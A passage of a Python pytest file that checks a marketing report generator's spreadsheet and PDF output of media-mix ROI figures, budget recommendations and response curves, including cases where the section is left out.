    rows = list(sheet.iter_rows())
    tables = {}
    for index, row in enumerate(rows[:-1]):
        texts = [cell.value for cell in row if cell.value is not None]
        header = [cell.value for cell in rows[index + 1]]
        if len(texts) == 1 and sum(value is not None for value in header) > 2:
            body = []
            for cells in rows[index + 2 :]:
                if cells[0].value is None:
                    break
                body.append({title: cell for title, cell in zip(header, cells, strict=False) if title})
            tables[texts[0]] = body
    return tables


def test_xlsx_sheet_holds_the_latest_fits_figures_as_numbers(mix_monthly):
    book = openpyxl.load_workbook(built_file(mix_monthly, ".xlsx"))
    assert book.sheetnames[:4] == ["Summary", "Channels", "Social vs traditional", "What each channel adds"]
    sheet = book["What each channel adds"]
    tables = sheet_tables(sheet)
    channels = {row["Channel"].value: row for row in tables[CHANNELS_HEADING]}
    meta = channels["Meta ads (Facebook and Instagram)"]
    assert meta["Investment"].value == 156000 and meta["Investment"].number_format == "$#,##0.00"
    assert meta["Attributed ROI"].value == pytest.approx(1.85) and meta["Attributed ROI"].number_format == "0.0%"
    roi = [meta[f"Incremental ROI{end}"].value for end in ("", ", low", ", high")]
    assert roi == [pytest.approx(-0.2), pytest.approx(-0.45), pytest.approx(0.1)]
    assert meta["Marginal ROI"].value == pytest.approx(0.35)
    assert channels["Facebook"]["Note"].value == "interval wider than the estimate"
    ooh = channels["Out-of-home"]
    assert ooh["Attributed ROI"].value is None and ooh["Incremental ROI"].value is None
    budget = {row["Channel"].value: row for row in tables[BUDGET_HEADING]}
    assert budget["Meta ads (Facebook and Instagram)"]["Recommended weekly spend"].value == 3240
    assert budget["Television"]["Scenario"].value == "held fixed"
    # The curves' points as a table: every spend level of every channel, as numbers.
    curves = tables[CURVES_HEADING]
    assert len(curves) == 9 * len(MIX_CHANNELS)
    for row in curves:
        assert {type(row[title].value) for title in ("Weekly spend", "Expected weekly conversions")} <= {int, float}
    assert "Fit of 15 Nov 2026" in " ".join(str(cell.value) for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("case", ["no marts", "empty marts", "no latest fit", "not asked for"])
def test_the_page_and_sheet_are_left_out_without_a_fit_to_show(warehouse, config, tmp_path, case):
    copy = with_mix_marts(warehouse, tmp_path / "marketing.duckdb", weeks=None if case == "empty marts" else 102)
    with duckdb.connect(str(copy)) as connection:
        if case == "no marts":
            for table in MIX_MARTS:
                connection.execute(f"drop table {table}")
        if case == "no latest fit":
            connection.execute("update mart_mmm_diagnostics set is_latest = false")
    name = "weekly_social_performance" if case == "not asked for" else "monthly_marketing_roi"
    built = build_from_file(config, name, WEEK if case == "not asked for" else OCTOBER, copy, tmp_path / "out")
    assert not [text for text in pdf_pages(built_file(built, ".pdf")) if "What each channel adds" in text]
    assert "What each channel adds" not in openpyxl.load_workbook(built_file(built, ".xlsx")).sheetnames


def test_a_channel_group_filter_narrows_the_page_to_its_channels(warehouse, config, tmp_path):
    copy = with_mix_marts(warehouse, tmp_path / "marketing.duckdb")
    social = definition(config, "weekly_social_performance").model_copy(update={"incremental_roi": True})
    built = build_report(social, WEEK, DuckDBFile(copy), tmp_path / "out", config)
    (text,) = [text for text in pdf_pages(built_file(built, ".pdf")) if "What each channel adds" in text]
    assert "Meta ads $156,000" in text and "Facebook * $41,600" in text
    assert "Television" not in text and "Radio" not in text and "Out-of-home" not in text
